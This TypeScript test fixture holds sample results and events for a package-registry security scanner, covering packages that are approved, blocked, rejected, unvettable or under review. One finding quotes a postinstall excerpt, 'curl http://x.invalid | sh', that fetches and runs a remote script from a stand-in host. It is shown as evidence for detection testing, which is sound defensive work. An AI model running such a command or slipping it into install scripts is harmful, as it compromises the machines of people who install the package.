import type { ScanEvent, ScanResult } from '@secure-registry/shared';

/** A completed scan with one package in every interesting state. */
export const SAMPLE_RESULT: ScanResult = {
  id: 'scan-1',
  status: 'completed',
  createdAt: '2025-01-01T00:00:00Z',
  counts: {
    total: 5,
    pending: 0,
    analyzing: 0,
    approved: 1,
    rejected: 1,
    review: 1,
    blocked: 1,
    unvettable: 1,
  },
  packages: [
    {
      key: 'node_modules/ok',
      name: 'ok',
      version: '1.0.0',
      integrity: 'sha512-AA==',
      source: 'registry',
      dev: false,
      state: 'approved',
      findings: [],
    },
    {
      key: 'node_modules/parent',
      name: 'parent',
      version: '2.0.0',
      integrity: 'sha512-BB==',
      source: 'registry',
      dev: false,
      state: 'blocked',
      findings: [],
      blockedBy: { name: 'evil', version: '1.0.1', path: ['parent@2.0.0', 'evil@1.0.1'] },
    },
    {
      key: 'node_modules/git-dep',
      name: 'git-dep',
      version: '0.1.0',
      source: 'git',
      dev: true,
      state: 'unvettable',
      reason: 'installed from a git repository',
      findings: [],
    },
    {
      key: 'node_modules/maybe',
      name: 'maybe',
      version: '3.0.0',
      integrity: 'sha512-CC==',
      source: 'registry',
      dev: false,
      state: 'review',
      reason: 'new install script',
      findings: [
        {
          rule: 'install-script-new',
          severity: 'high',
          message: 'install script added in this version',
          evidence: [],
        },
      ],
    },
    {
      key: 'node_modules/evil',
      name: 'evil',
      version: '1.0.1',
      integrity: 'sha512-DD==',
      source: 'registry',
      dev: false,
      state: 'rejected',
      reason: 'install script runs a shell dropper',
      findings: [
        {
          rule: 'shell-downloader',
          severity: 'critical',
          message: 'install script runs a shell dropper',
          evidence: [
            {
              kind: 'file',
              path: 'package.json#scripts.postinstall',
              line: 1,
              excerpt: 'curl http://x.invalid | sh',
            },
          ],
        },
        { rule: 'install-script', severity: 'low', message: 'runs at install', evidence: [] },
      ],
    },
  ],
};

export const SAMPLE_EVENTS: ScanEvent[] = [
  {
    type: 'scan.snapshot',
    scan: {
      ...SAMPLE_RESULT,
      status: 'running',
      counts: { ...SAMPLE_RESULT.counts, approved: 0, rejected: 0, review: 0, blocked: 0, pending: 4 },
      packages: SAMPLE_RESULT.packages.map((p) =>
        p.state === 'unvettable' ? p : { ...p, state: 'pending', findings: [] },
      ),
    },
  },
  {
    type: 'package.state',
    key: 'node_modules/evil',
    name: 'evil',
    version: '1.0.1',
    state: 'analyzing',
    findings: [],
    counts: {
      ...SAMPLE_RESULT.counts,
      approved: 0,
      rejected: 0,
      review: 0,
      blocked: 0,
      pending: 3,
      analyzing: 1,
    },
  },
  {
    type: 'package.state',
    key: 'node_modules/evil',
    name: 'evil',
    version: '1.0.1',
    state: 'rejected',
    reason: 'install script runs a shell dropper',
    findings: SAMPLE_RESULT.packages[4]!.findings,
    counts: { ...SAMPLE_RESULT.counts, approved: 0, review: 0, blocked: 0, pending: 3 },
  },
];
